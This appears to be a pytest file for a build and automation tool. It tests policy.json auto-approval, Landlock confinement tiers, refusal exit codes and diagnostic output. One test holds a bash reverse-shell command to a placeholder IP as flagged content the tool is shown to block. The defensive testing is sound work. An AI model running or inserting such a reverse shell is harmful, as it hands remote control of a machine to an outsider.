"""policy.json in real runs: who approves, what is refused with exit 8, what doctor says."""

from __future__ import annotations

import json
from typing import Any

import pytest

from clockwork_nb.forge.confinement import probe
from clockwork_nb.forge.tiers import probe_strict
from clockwork_nb.testing.project import Project

HELLO = """
resource "command" "hello" {
  script = "echo hello"
  writes = [%s]
}
"""


def lay_down(project: Project, document: dict[str, Any] | str) -> None:
    folder = project.root / "config/clockwork"
    folder.mkdir(parents=True, exist_ok=True)
    folder.chmod(0o700)
    path = folder / "policy.json"
    path.write_text(document if isinstance(document, str) else json.dumps(document))
    path.chmod(0o600)


def started(project: Project) -> dict[str, Any]:
    found: dict[str, Any] = next(e["payload"] for e in project.events() if e["type"] == "step.started")
    return found


def granted(project: Project) -> dict[str, Any]:
    found: dict[str, Any] = next(e["payload"] for e in project.events() if e["type"] == "approval.granted")
    return found


@pytest.fixture(autouse=True)
def _needs_landlock() -> None:
    if probe().tier != "standard":
        pytest.skip(f"needs Landlock: {probe().reason}")


def test_a_covered_plan_runs_without_a_person_and_says_so(project: Project) -> None:
    project.write({"main.cw": 'file "a" {\n  path = "out/a"\n  content = "x"\n}\n'})
    lay_down(project, {"auto_approve": ["overwrite"]})
    done = project.run("apply")
    assert "no person approved" in done.out
    record = granted(project)
    assert record["via"] == "policy"
    assert record["reason"].startswith("auto_approve of policy.json covers it")
    assert started(project)["confinement"] == "standard"


def test_checks_ask_nobody_and_what_changes_beside_a_command_check_is_asked_about(project: Project) -> None:
    check = 'check "c" {\n  command = ["true"]\n}\n'
    lay_down(project, {"auto_approve": ["overwrite"]})
    project.write({"main.cw": check})
    project.run("verify")
    project.run("apply")
    project.write({"main.cw": check.replace("true", "test") + 'file "a" {\n  path = "out/a"\n  content = "x"\n}\n'})
    assert "risk: command" in project.run("apply", expect=4).err
    project.run("verify", expect=5)


def test_an_uncovered_risk_class_still_stops_with_4(project: Project) -> None:
    project.write({"main.cw": 'file "a" {\n  path = "out/a"\n  content = "x"\n}\n', "out/a": "somebody's"})
    lay_down(project, {"auto_approve": ["ports"]})
    done = project.run("apply", expect=4)
    assert "overwrite" in done.out + done.err
    assert (project.folder / "out/a").read_text() == "somebody's"
    lay_down(project, {"auto_approve": ["ports", "overwrite"]})
    project.run("apply")
    assert (project.folder / "out/a").read_text() == "x"


def test_edited_and_flagged_scripts_still_stop_with_4(project: Project) -> None:
    lay_down(project, {"auto_approve": ["overwrite"]})
    project.write({"main.cw": HELLO % ""})
    project.run("build")
    script = project.folder / ".clockwork/build/scripts/command.hello/run_command.sh"
    script.write_text(script.read_text() + "\n# mine\n")
    project.run("apply", expect=4)
    assert [e for e in project.events() if e["type"] == "approval.granted"] == []


def test_a_script_with_flagged_content_stops_with_4(project: Project) -> None:
    lay_down(project, {"auto_approve": ["overwrite"]})
    project.write({"main.cw": 'resource "command" "x" {\n  script = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"\n}\n'})
    project.run("apply", expect=4)
    assert [e for e in project.events() if e["type"] == "step.started"] == []


GATED = """\
name: gated
inputs:
  steps:
    - id: ship
      command: echo shipped > shipped.txt
      decision_needed: true
"""


def test_a_gate_that_the_author_of_a_job_asked_for_is_a_persons(project: Project) -> None:
    lay_down(project, {"auto_approve": ["overwrite"]})
    project.write({"spec.yaml": GATED})
    project.run("job", "submit", "spec.yaml", "--job-id", "g1", expect=4)
    assert not (project.folder / "shipped.txt").exists()


def test_an_approval_is_bound_to_the_policy(project: Project) -> None:
    project.write({"main.cw": HELLO % ""})
    project.run("apply", expect=4)
    job = project.jobs()[0]["id"]
    project.approve(job)
    lay_down(project, {"max_auto_fixes_per_hour": 1})
    done = project.run("job", "resume", job, expect=4)
    assert "policy" in done.out + done.err
    assert [e for e in project.events(job) if e["type"] == "step.started"] == []


def test_a_demanded_tier_is_in_the_plan_the_event_and_the_run(project: Project) -> None:
    if isinstance(probe_strict(), str):
        pytest.skip(f"strict is not offered here: {probe_strict()}")
    project.write({"main.cw": HELLO % ""})
    assert project.run("plan", "--json").json["facts"]["confinement"] == "standard"
    project.run("apply", "--auto-approve", "--confinement", "strict")
    assert started(project)["confinement"] == "strict"


def test_a_policy_that_cannot_be_met_refuses_with_8_and_the_reason(project: Project) -> None:
    project.write({"main.cw": HELLO % ""})
    lay_down(project, {"require_confinement": "strict"})
    if isinstance(probe_strict(), str):
        done = project.run("apply", "--auto-approve", expect=8)
        assert "confinement strict is demanded" in done.err
        assert "E_UNSAFE_OPERATION" in done.err
    else:
        project.run("apply", "--auto-approve", "--confinement", "standard")
        assert started(project)["confinement"] == "strict", "a flag made it weaker"


@pytest.mark.parametrize(
    ("text", "status", "said"),
    [
        ('{"auto_aprove":["ports"]}', 6, "did you mean 'auto_approve'"),
        ('{"runtimes":["sh","perl"]}', 6, "runtimes has 'perl'"),
        ('{"runtimes":["python3"]}', 8, "does not allow the runtime sh"),
    ],
)
def test_what_the_policy_does_not_allow_never_runs(project: Project, text: str, status: int, said: str) -> None:
    project.write({"main.cw": HELLO % ""})
    lay_down(project, text)
    done = project.run("apply", "--auto-approve", expect=status)
    assert said in done.err
    assert not (project.folder / ".clockwork/logs").exists()


def test_a_policy_that_others_can_write_stops_everything(project: Project) -> None:
    project.write({"main.cw": HELLO % ""})
    lay_down(project, {})
    (project.root / "config/clockwork/policy.json").chmod(0o666)
    assert "can be written by others" in project.run("apply", "--auto-approve", expect=8).err
    assert "nothing runs before that is mended" in project.run("doctor").out


def test_doctor_says_tier_and_policy(project: Project) -> None:
    plain = project.run("doctor", "--json").json
    assert plain["confinement"]["tier"] == "standard"
    assert plain["confinement"]["runs_under"] == "standard"
    assert plain["confinement"]["strict"] is not isinstance(probe_strict(), str)
    lay_down(project, {"require_confinement": "standard"})
    document = project.run("doctor", "--json").json
    assert document["policy"]["digest"] != plain["policy"]["digest"]
    shown = project.run("doctor").out
    assert f"policy.json   {document['policy']['digest'][:8]}" in shown and "nobody is asked" not in shown
    lay_down(project, {"auto_approve": ["ports", "overwrite"]})
    said = "nobody is asked about plans without a risk class, or with no other than overwrite, ports"
    assert said in project.run("doctor").out


def test_doctor_keeps_its_columns(project: Project) -> None:
    lines = project.run("doctor").out.splitlines()
    named = [line for line in lines if line.startswith(("CLOCKWORK_", "CW_", "XDG_"))]
    widest = max(len(line.split()[0]) for line in named) + 2
    assert len(named) > 5
    assert all(line[widest - 1] == " " and line[widest] != " " for line in named)
